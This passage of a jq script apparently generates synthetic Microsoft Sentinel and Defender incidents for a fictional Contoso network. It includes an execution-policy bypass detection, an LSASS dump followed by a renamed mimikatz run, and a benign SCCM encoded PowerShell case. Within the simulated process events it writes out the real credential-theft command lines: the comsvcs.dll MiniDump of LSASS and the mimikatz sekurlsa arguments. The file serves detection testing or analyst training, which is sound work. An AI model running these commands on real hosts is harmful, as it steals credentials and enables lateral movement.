	   start: $first, end: $last, time: at("01-15 07:19:33.018"),
	   tactics: ["Execution"], techniques: ["T1059"], subtechniques: ["T1059.001"],
	   compromised: "svc-inventory",
	   entities: ([{"$id": "2", Name: "svc-inventory", NTDomain: "contoso", Sid: svc_inventory.sid, Type: "account"}]
	     + ($runs | to_entries | map({"$id": "\(.key + 3)", HostName: .value.h.short, DnsDomain: ad_domain,
	         FQDN: .value.h.name, Type: "host"}))
	     + [{"$id": "8", Directory: "C:\\Program Files\\Contoso\\Inventory", Name: "Get-ContosoInventory.ps1", Type: "file"}]),
	   ext: (scheduled_ext("357332"; "PowerShell execution policy bypass by non-interactive account";
	     "DeviceProcessEvents\n| where TimeGenerated > ago(1h)\n| where FileName in~ (\"powershell.exe\", \"pwsh.exe\")\n| where ProcessCommandLine has_any (\"-ExecutionPolicy Bypass\", \"-ep bypass\", \"-exec bypass\")\n| where InitiatingProcessFileName in~ (\"svchost.exe\", \"taskeng.exe\", \"services.exe\")\n| summarize Hosts = make_set(DeviceName), Count = count(), CommandLines = make_set(ProcessCommandLine) by AccountName";
	     "01:00:00"; 5; {AccountName: ["svc-inventory"], Hosts: ($runs | map(.h.name))}) | .["Event Grouping"] = "SingleAlert")} as $alert
	| {number: 357332, title: "PowerShell execution policy bypass by non-interactive account",
	   desc: $alert.desc, severity: "Low", provider: "Azure Sentinel",
	   created: at("01-15 07:20:14.662"), first: $first, last: $last,
	   tactics: ["Execution"], techniques: ["T1059"],
	   alerts: [$alert], rules: ["PowerShell execution policy bypass by non-interactive account"],
	   versions: [{t: at("01-15 07:20:14.662"), status: "New", by: "Incident created from alert rule"}]} as $inc
	| (($runs[] | inventory_run(.h; .t)),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357333: LSASS dumped on an application server ---------------------------
#
# A Domain Admin account arrives over RDP from an HR workstation (the one
# with the beacon of 357330), dumps LSASS with comsvcs.dll and runs a
# renamed mimikatz.

def mimikatz: {name: "mscache.exe", path: "C:\\ProgramData\\ms\\mscache.exe", dir: "c:\\programdata\\ms",
	sha1: hex_of("sha1:mimikatz-2.2.0-20220919"; 40), sha256: hex_of("sha256:mimikatz-2.2.0-20220919"; 64),
	md5: hex_of("md5:mimikatz-2.2.0-20220919"; 32), size: 1355264,
	company: "gentilkiwi (Benjamin DELPY)", product: "mimikatz", version: "2.2.0.0",
	internal: "mimikatz", original: "mimikatz.exe", desc: "mimikatz for Windows",
	signer: "Unknown", sig: "Unsigned", synthetic: true};

def inc_357333:
	host("srv-app-03") as $h
	| adm_kobrien as $a
	| explorer_proc($h; at("01-15 09:05:44.870"); $a; 7180) as $explorer
	| proc($h; at("01-15 09:05:47.019"); 7436; bin("rdpclip"); "rdpclip"; $a; {bin: bin("svchost"), pid: 1164, t: null, acct: network_service, cmd: "svchost.exe -k termsvcs -s TermService", parent: {bin: bin("services"), pid: 668}}) as $rdpclip
	| proc($h; at("01-15 09:07:02.441"); 7628; bin("cmd"); "\"C:\\Windows\\system32\\cmd.exe\" "; $a; $explorer) as $cmd
	| proc($h; at("01-15 09:08:12.304"); 7892; bin("rundll32"); "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Windows\\Temp\\lsass.dmp full"; $a; $cmd) as $dump
	| proc($h; at("01-15 09:12:20.658"); 8016; mimikatz; "mscache.exe  \"privilege::debug\" \"sekurlsa::minidump C:\\Windows\\Temp\\lsass.dmp\" \"sekurlsa::logonpasswords\" exit"; $a; $cmd) as $mk
	| {id: uuid_of("alert:357333a"), name: "Suspicious access to LSASS service",
	   desc: "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS) and wrote it to a file. Attackers dump LSASS to extract credentials for lateral movement.",
	   severity: "High", kind: "mde", alert_type: "WindowsDefenderAtp",
	   vendor_id: "da638725\(int_of("mde:357333a"; 100000000))_-602834117",
	   link: "https://security.microsoft.com/alerts/da638725\(int_of("mde:357333a"; 100000000))_-602834117",
	   start: $dump.t, end: ($dump.t + 2400000), time: at("01-15 09:20:14.335"),
	   tactics: ["CredentialAccess"], techniques: ["T1003"], subtechniques: ["T1003.001"],
	   compromised: "srv-app-03.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "srv-app-03", DnsDomain: ad_domain, NetBiosName: "srv-app-03", OSFamily: "Windows", OSVersion: "21H2",
	      MdatpDeviceId: device_id($h), FQDN: "srv-app-03.corp.contoso.com", RiskScore: "High", HealthStatus: "Active", Type: "host"},
	     {"$id": "3", Name: "adm-kobrien", NTDomain: "CONTOSO", UPNSuffix: upn_domain, Sid: $a.sid, AadUserId: $a.object_id, IsDomainJoined: true, Type: "account"},
	     {"$id": "4", ProcessId: "7892", CommandLine: $dump.cmd, CreationTimeUtc: ($dump.t | ts), ElevationToken: "Full",
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32", Name: "rundll32.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA256", Value: bin("rundll32").sha256, Type: "filehash"}], Type: "file"},
	      ParentProcess: {"$id": "7", ProcessId: "7628", CommandLine: $cmd.cmd, CreationTimeUtc: ($cmd.t | ts),
	          ImageFile: {"$id": "8", Directory: "C:\\Windows\\System32", Name: "cmd.exe", Type: "file"},
	          Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "7"},
	     {"$id": "9", ProcessId: "692", CommandLine: "C:\\Windows\\system32\\lsass.exe",
	      ImageFile: {"$id": "10", Directory: "C:\\Windows\\System32", Name: "lsass.exe", Type: "file"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$id": "11", Directory: "C:\\Windows\\Temp", Name: "lsass.dmp", Type: "file"}],
	   ext: {"MicrosoftDefenderAtpCategory": "CredentialAccess", "DetectionSource": "EDR",
	     "DetectorId": "3f8d6c2e-0b4a-4f19-8d2e-7c1a5b9e0f63"},
	   remediation: ["Isolate the device.", "Reset the credentials of every account logged on to the device since the dump.",
	     "Investigate how the account reached the device."]} as $a1
	| {id: uuid_of("alert:357333b"), name: "Mimikatz credential theft tool",
	   desc: "The credential theft tool Mimikatz, renamed, ran on the device with arguments that read credentials from an LSASS dump.",
	   severity: "High", kind: "mde", alert_type: "WindowsDefenderAtp",
	   vendor_id: "da638725\(int_of("mde:357333b"; 100000000))_1093377462",
	   link: "https://security.microsoft.com/alerts/da638725\(int_of("mde:357333b"; 100000000))_1093377462",
	   start: $mk.t, end: $mk.t, time: at("01-15 09:24:51.902"),
	   tactics: ["CredentialAccess"], techniques: ["T1003"], subtechniques: ["T1003.001"],
	   compromised: "srv-app-03.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "srv-app-03", DnsDomain: ad_domain, NetBiosName: "srv-app-03", OSFamily: "Windows", OSVersion: "21H2",
	      MdatpDeviceId: device_id($h), FQDN: "srv-app-03.corp.contoso.com", Type: "host"},
	     {"$id": "3", Name: "adm-kobrien", NTDomain: "CONTOSO", UPNSuffix: upn_domain, Sid: $a.sid, AadUserId: $a.object_id, IsDomainJoined: true, Type: "account"},
	     {"$id": "4", ProcessId: "8016", CommandLine: $mk.cmd, CreationTimeUtc: ($mk.t | ts), ElevationToken: "Full",
	      ImageFile: {"$id": "5", Directory: "C:\\ProgramData\\ms", Name: "mscache.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA1", Value: mimikatz.sha1, Type: "filehash"},
	                       {"$id": "7", Algorithm: "SHA256", Value: mimikatz.sha256, Type: "filehash"}], Type: "file"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "7"}],
	   ext: {"MicrosoftDefenderAtpCategory": "CredentialAccess", "DetectionSource": "Antivirus",
	     "ThreatName": "HackTool:Win32/Mimikatz", "ThreatFamilyName": "Mimikatz"}} as $a2
	| {number: 357333, title: "Multi-stage incident involving Credential access on one endpoint",
	   desc: "", severity: "High", provider: "Microsoft XDR", provider_id: "42003",
	   created: at("01-15 09:27:06.118"), first: $dump.t, last: $mk.t,
	   tactics: ["CredentialAccess"], techniques: ["T1003.001"],
	   alerts: [$a1, $a2], rules: [],
	   versions: [
	     {t: at("01-15 09:27:06.118"), status: "New", by: "Microsoft XDR"},
	     {t: at("01-15 09:27:40.551"), status: "New", by: "Microsoft XDR"}]} as $inc
	| (dle($h; at("01-15 09:05:31.402"); {type: "RemoteInteractive", acct: $a, protocol: "Kerberos",
	       remote_ip: "10.20.7.27", remote_name: "ws-hr-011", remote_port: 51207, local_admin: true}; lsass_proc($h)),
	   dne(termsvc_proc($h); at("01-15 09:04:51.410"); {action: "InboundConnectionAccepted", rip: "10.20.7.27", rport: 51207, lport: 3389}),
	   logon_rows($h; $explorer.t; $a; 7180),
	   dpe($rdpclip),
	   dpe($cmd),
	   dpe(proc($h; at("01-15 09:07:02.480"); 7640; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; $a; $cmd)),
	   dpe(proc($h; at("01-15 09:07:18.902"); 7716; bin("whoami"); "whoami  /groups"; $a; $cmd)),
	   dpe(proc($h; at("01-15 09:07:41.330"); 7764; bin("tasklist"); "tasklist  /fi \"imagename eq lsass.exe\""; $a; $cmd)),
	   dpe($dump),
	   dfe($dump; at("01-15 09:08:14.655"); file_of("C:\\Windows\\Temp\\lsass.dmp"; 58327041; "dump"); {}),
	   dfe($rdpclip; at("01-15 09:10:55.208"); mimikatz | {name, path, sha1, sha256, md5, size}; {}),
	   dpe($mk),
	   dpe(proc($h; at("01-15 09:15:06.771"); 8140; bin("net"); "net  group \"Domain Admins\" /domain"; $a; $cmd)),
	   dfe($cmd; at("01-15 09:19:02.016"); file_of("C:\\Windows\\Temp\\lsass.dmp"; 58327041; "dump"); {action: "FileDeleted"}),
	   alert_row($a1; $a1.time; "New"),
	   alert_row($a2; $a2.time; "New"),
	   incident_rows($inc));

# --- 357334: an encoded command from the Configuration Manager client -------

def sccm_script: "$ErrorActionPreference = 'Stop'; $keys = 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*', 'HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*'; $apps = Get-ItemProperty -Path $keys | Where-Object DisplayName | Select-Object DisplayName, DisplayVersion, Publisher, InstallDate; $apps | ConvertTo-Json -Compress | Set-Content -Path 'C:\\Windows\\CCM\\Inventory\\Temp\\ContosoApps.json' -Encoding UTF8";
def sccm_cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass -EncodedCommand \(sccm_script | utf16le_b64)";

# The compliance script's run on one workstation.
def sccm_run($h; $t):
	proc($h; null; 3764; bin("ccmexec"); "C:\\Windows\\CCM\\CcmExec.exe"; system_acct; services_proc($h)) as $ccm
	| proc($h; $t; 6000 + int_of("sccmpid:\($h.short)"; 2000) * 4; bin("powershell"); sccm_cmd; system_acct; $ccm) as $ps
	| dpe($ps),
	  dpe(proc($h; $t + 36000; $ps.pid + 8; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; system_acct; $ps)),
	  dfe($ps; $t + 2890000 + int_of("sccmf:\($h.short)"; 900000);
	      file_of("C:\\Windows\\CCM\\Inventory\\Temp\\ContosoApps.json"; 20000 + int_of("sccmsz:\($h.short)"; 30000); $h.short);
	      {action: "FileCreated"});

# The baseline reached a pilot collection at 09:55 on 01-15.
def sccm_pilot: ["ws-eng-031", "ws-eng-022", "ws-it-003", "ws-ops-012", "ws-mkt-004", "ws-acct-009"];
def sccm_time($short): at("01-15 09:58:10.000") + int_of("sccmt:" + $short; 700000000);

def inc_357334:
	host("ws-eng-031") as $h
	| sccm_time("ws-eng-031") as $t
	| {id: uuid_of("alert:357334"), name: "Suspicious PowerShell command line",
	   desc: "A PowerShell command line with an encoded command and a bypassed execution policy ran as SYSTEM. Attackers encode commands to hide them from casual inspection.",
	   severity: "Medium", kind: "mde", alert_type: "WindowsDefenderAtp",
	   vendor_id: "da638725\(int_of("mde:357334"; 100000000))_-1889022311",
	   link: "https://security.microsoft.com/alerts/da638725\(int_of("mde:357334"; 100000000))_-1889022311",
	   start: $t, end: $t, time: at("01-15 10:07:41.219"),
	   tactics: ["Execution", "DefenseEvasion"], techniques: ["T1059", "T1027"], subtechniques: ["T1059.001", "T1027.010"],
	   compromised: "ws-eng-031.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-eng-031", DnsDomain: ad_domain, NetBiosName: "ws-eng-031", OSFamily: "Windows", OSVersion: "22H2",
	      MdatpDeviceId: device_id($h), FQDN: "ws-eng-031.corp.contoso.com", RiskScore: "Low", HealthStatus: "Active", Type: "host"},
	     {"$id": "3", Name: "system", NTDomain: "NT AUTHORITY", Sid: "S-1-5-18", Type: "account"},
	     {"$id": "4", ProcessId: "\(6000 + int_of("sccmpid:ws-eng-031"; 2000) * 4)", CommandLine: sccm_cmd, CreationTimeUtc: ($t | ts), ElevationToken: "Default",
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", Name: "powershell.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA256", Value: bin("powershell").sha256, Type: "filehash"}], Type: "file"},
	      ParentProcess: {"$id": "7", ProcessId: "3764", CommandLine: "C:\\Windows\\CCM\\CcmExec.exe",
	          ImageFile: {"$id": "8", Directory: "C:\\Windows\\CCM", Name: "CcmExec.exe", Type: "file"}, Host: {"$ref": "2"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "7"}],
	   ext: {"MicrosoftDefenderAtpCategory": "Execution", "DetectionSource": "EDR",
	     "DetectorId": "c2a7e0d1-9f43-4b8e-a615-2e0d7f3b9c84"}} as $alert
	| {number: 357334, title: "Suspicious PowerShell command line on one endpoint",
	   desc: "", severity: "Medium", provider: "Microsoft XDR", provider_id: "42011",
	   created: at("01-15 10:09:22.704"), first: $t, last: $t,
	   tactics: ["Execution", "DefenseEvasion"], techniques: ["T1059.001", "T1027.010"],
	   alerts: [$alert], rules: [],
	   versions: [{t: at("01-15 10:09:22.704"), status: "New", by: "Microsoft XDR"}]} as $inc
	| ((sccm_pilot[] | host(.) as $w | sccm_run($w; sccm_time(.))),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- All of them, oldest first -----------------------------------------------

def incidents:
	inc_357322, inc_357323, inc_357324, inc_357325, inc_357326, inc_357327,
	inc_357328, inc_357329, inc_357330, inc_357331, inc_357332, inc_357333,
	inc_357334, inc_357335;
